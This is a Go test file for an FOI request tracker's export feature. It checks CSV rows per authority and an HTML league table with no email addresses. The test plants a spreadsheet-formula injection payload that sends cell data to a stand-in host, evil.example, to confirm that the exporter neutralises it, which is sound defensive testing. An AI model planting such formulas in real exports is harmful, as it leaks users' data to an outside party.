package main

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"foi/demo"
	"foi/store"
)

// TestExportDemo exports the demo's campaign as a user would after the
// demo: one CSV row per request with the right values for each scripted
// authority, a formula in a reply's subject neutralised, and an HTML
// league table without an email address in it.
func TestExportDemo(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	var out, errOut bytes.Buffer
	if code := run(context.Background(), []string{"demo", "--headless", "--json", "--dir", dir}, &out, &errOut); code != 0 {
		t.Fatalf("demo: exit %d: %s", code, errOut.String())
	}
	var res struct {
		Config, Now string
	}
	if err := json.Unmarshal(out.Bytes(), &res); err != nil {
		t.Fatalf("demo --json: %v", err)
	}
	foiRun := func(args ...string) string {
		t.Helper()
		var o, e bytes.Buffer
		if code := run(context.Background(), append([]string{"--config", res.Config, "--now", res.Now}, args...), &o, &e); code != 0 {
			t.Fatalf("foi %s: exit %d: %s", strings.Join(args, " "), code, e.String())
		}
		return o.String()
	}

	// A reply whose subject is a spreadsheet formula, filed as any reply is.
	ctx := context.Background()
	st, err := store.OpenExisting(ctx, filepath.Join(dir, "data"))
	if err != nil {
		t.Fatal(err)
	}
	const evil = `=HYPERLINK("http://evil.example/?leak="&A1,"Click for the data")`
	raw := []byte("Subject: " + evil + "\r\n\r\nSee attached.\r\n")
	sum := sha256.Sum256(raw)
	when, _ := time.Parse(time.RFC3339, res.Now)
	if _, _, err := st.SaveIncoming(ctx, store.Incoming{Ref: "LXP7N-011", Classification: `{"Kind":"substantive"}`,
		Message: store.Message{MessageID: "evil@trust.test", SHA256: hex.EncodeToString(sum[:]), Size: int64(len(raw)),
			Subject: evil, From: "officer@trust.nhs.test", Kind: "substantive", BodyText: "See attached."}}, when.Add(-time.Hour)); err != nil {
		t.Fatal(err)
	}
	reqs, err := st.Requests(ctx, "LXP7N")
	st.Close()
	if err != nil {
		t.Fatal(err)
	}

	data := foiRun("export", "LXP7N", "--format", "csv")
	recs, err := csv.NewReader(strings.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not read back through encoding/csv: %v", err)
	}
	if len(recs) != len(reqs)+1 {
		t.Fatalf("%d CSV rows for %d requests", len(recs)-1, len(reqs))
	}
	col := map[string]int{}
	for i, h := range recs[0] {
		col[h] = i
	}
	byRef := map[string]map[string]string{}
	for _, r := range recs[1:] {
		m := map[string]string{}
		for name, i := range col {
			m[name] = r[i]
		}
		byRef[r[0]] = m
	}
	// Each role's request in LXP7N, or in LXP7A for the roles only it has.
	refOf := map[string]string{}
	for ref, role := range demo.Roles {
		if old, ok := refOf[role]; !ok || strings.HasPrefix(ref, "LXP7N-") && !strings.HasPrefix(old, "LXP7N-") {
			refOf[role] = ref
		}
	}
	// LXP7A's rows (its questions differ, the columns before them do not).
	more, err := csv.NewReader(strings.NewReader(foiRun("export", "LXP7A", "--format", "csv"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range more[1:] {
		m := map[string]string{}
		for name, i := range col {
			if i < len(r) {
				m[name] = r[i]
			}
		}
		byRef[r[0]] = m
	}
	days := func(s string) int { n, _ := strconv.Atoi(s); return n }
	checks := []struct {
		role string
		ok   func(m map[string]string) bool
		want string
	}{
		{"prompt", func(m map[string]string) bool {
			return m["On time"] == "yes" && days(m["Working days to reply"]) <= 5 && days(m["Files"]) >= 2 && m["Timeliness"] == "on_time"
		}, "on time within 5 working days, with its files"},
		{"ack-then-answer", func(m map[string]string) bool { return m["Acknowledged"] != "" && m["On time"] == "yes" }, "acknowledged, then on time"},
		{"clarification", func(m map[string]string) bool {
			return strings.Contains(m["Due rule"], "from our clarification") && m["On time"] == "yes" && m["Due"] > "2026-03-31"
		}, "on time counted from our clarification"},
		{"refuse-s12", func(m map[string]string) bool {
			return strings.Contains(m["Exemptions cited"], "s.12") && m["Outcome"] == "refused" && m["Review asked"] != "" &&
				m["Review answered"] != "" && m["Review outcome"] == "upheld" && m["Completed"] == m["Review answered"]
		}, "refused (s.12), upheld on review, completed by the review"},
		{"silent", func(m map[string]string) bool {
			return m["On time"] == "no" && m["Timeliness"] == "overdue" && m["Chasers sent"] == "2" && m["First substantive reply"] == ""
		}, "overdue with two chasers and no reply"},
		{"bounce", func(m map[string]string) bool { return m["Timeliness"] == "not_delivered" && m["On time"] == "" }, "not delivered, not judged"},
		{"out-of-office", func(m map[string]string) bool { return m["On time"] == "yes" && days(m["Working days to reply"]) > 0 }, "the answer, not the automatic reply"},
		{"own-ref-only", func(m map[string]string) bool { return m["Authority's reference"] != "" }, "the authority's reference"},
		{"partial", func(m map[string]string) bool {
			return m["Outcome"] == "partially_successful" && strings.Contains(m["Exemptions cited"], "s.40") && m["On time"] == "yes"
		}, "partly answered on time, citing s.40"},
		{"not-held", func(m map[string]string) bool { return m["Outcome"] == "not_held" && m["On time"] == "yes" }, "not held, on time"},
		{"late", func(m map[string]string) bool {
			return m["On time"] == "no" && m["Timeliness"] == "late" && days(m["Working days to reply"]) > 20 && days(m["Chasers sent"]) >= 1
		}, "answered late, after a chaser"},
		{"extension", func(m map[string]string) bool {
			return strings.HasPrefix(m["Due rule"], "40 working days") && m["On time"] != "no"
		}, "a lawful extension: due at 40 working days, not late"},
	}
	for _, c := range checks {
		ref, ok := refOf[c.role]
		if !ok {
			t.Errorf("the demo has no %s authority", c.role)
			continue
		}
		if m := byRef[ref]; !c.ok(m) {
			t.Errorf("%s (%s): want %s; got %v", ref, c.role, c.want, m)
		}
	}
	if got := byRef["LXP7N-011"]["Last reply subject"]; got != "'"+evil {
		t.Errorf("the formula subject came out as %q, want it neutralised", got)
	}
	if strings.Contains(data, "\n=") || strings.Contains(data, ",=") || strings.Contains(data, ",\"=") {
		t.Errorf("a CSV cell starts with '='")
	}

	page := foiRun("export", "LXP7N", "--format", "html")
	if m := regexp.MustCompile(`[A-Za-z0-9._%+\-]+@[A-Za-z0-9.\-]+`).FindString(page); m != "" {
		t.Errorf("the league table holds the address %q", m)
	}
	if !strings.Contains(page, "<svg") || !strings.Contains(page, "Method.") {
		t.Errorf("the league table lacks its chart or method")
	}
	path := filepath.Join(dir, "league.html")
	foiRun("export", "LXP7N", "--format", "html", "--out", path)
	if b, err := os.ReadFile(path); err != nil || string(b) != page {
		t.Errorf("export --out wrote something else than standard output (%v)", err)
	}
}
